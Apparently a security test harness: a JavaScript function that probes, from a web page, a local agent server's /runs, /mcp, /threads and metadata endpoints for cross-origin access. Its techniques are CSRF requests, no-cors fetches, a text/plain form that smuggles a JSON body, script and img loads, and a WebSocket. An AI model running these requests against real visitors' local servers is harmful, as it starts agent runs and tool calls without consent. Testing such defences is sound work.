// What a page can do to a server on the visitor's machine, without being asked. Returns what it learned.
async ({ target, run }) => {
  const learned = [];
  const json = JSON.stringify(run);
  const read = async (what, answer) => {
    try {
      const response = await answer;
      if (response.type !== "opaque" && response.ok) learned.push(`${what}: ${(await response.text()).slice(0, 80)}`);
    } catch (error) { /* the browser kept it */ }
  };
  const loads = (tag, attributes) => new Promise((done) => {
    const element = Object.assign(document.createElement(tag), attributes);
    element.onload = () => { learned.push(`${tag} loaded ${element.src}`); done(); };
    element.onerror = () => done();
    setTimeout(done, 3000);
    document.body.append(element);
  });
  const socket = (path) => new Promise((done) => {
    const opened = new WebSocket(target.replace("http", "ws") + path);
    opened.onopen = () => { learned.push(`socket ${path}`); opened.close(); done(); };
    opened.onerror = opened.onclose = () => done();
    setTimeout(done, 3000);
  });
  const form = (type) => new Promise((done) => {
    const frame = Object.assign(document.createElement("iframe"), { name: `frame-${type}` });
    const sent = Object.assign(document.createElement("form"), {
      method: "POST", action: `${target}/runs`, enctype: type, target: frame.name,
    });
    // a text/plain form is sent as NAME=VALUE, and this one is JSON
    const [name, value] = [json.slice(0, -1) + ',"metadata":{"x":"', '"}}'];
    sent.append(Object.assign(document.createElement("input"), { name, value }));
    document.body.append(frame, sent);
    frame.onload = done;
    setTimeout(done, 3000);
    sent.submit();
  });
  const post = (type, more) => ({ method: "POST", body: json, headers: type ? { "Content-Type": type } : {}, ...more });

  await read("start, simple", fetch(`${target}/runs`, post("text/plain", {})));
  await read("start, no type", fetch(`${target}/runs`, { method: "POST", body: new Blob([json]) }));
  await read("start, unread", fetch(`${target}/runs`, post("text/plain", { mode: "no-cors" })));
  await read("start, asked", fetch(`${target}/runs`, post("application/json", {})));
  await read("tool", fetch(`${target}/mcp`, { method: "POST", mode: "no-cors", body: JSON.stringify({
    jsonrpc: "2.0", id: 1, method: "tools/call", params: { name: "campaign", arguments: run.input } }) }));
  navigator.sendBeacon(`${target}/runs`, json);
  await form("text/plain");
  await form("application/x-www-form-urlencoded");
  for (const path of ["/info", "/openapi.json", "/metrics", "/docs", "/mcp"]) {
    await read(`read ${path}`, fetch(target + path));
    await read(`read ${path}, unread`, fetch(target + path, { mode: "no-cors" }));
    await loads("img", { src: target + path });
    await loads("script", { src: target + path });
  }
  for (const path of ["/threads/search", "/assistants/search", "/store/items/search"])
    await read(`search ${path}`, fetch(target + path, { method: "POST", body: "{}", headers: { "Content-Type": "application/json" } }));
  await socket("/threads/00000000-0000-0000-0000-000000000000/stream/events");
  return learned;
}
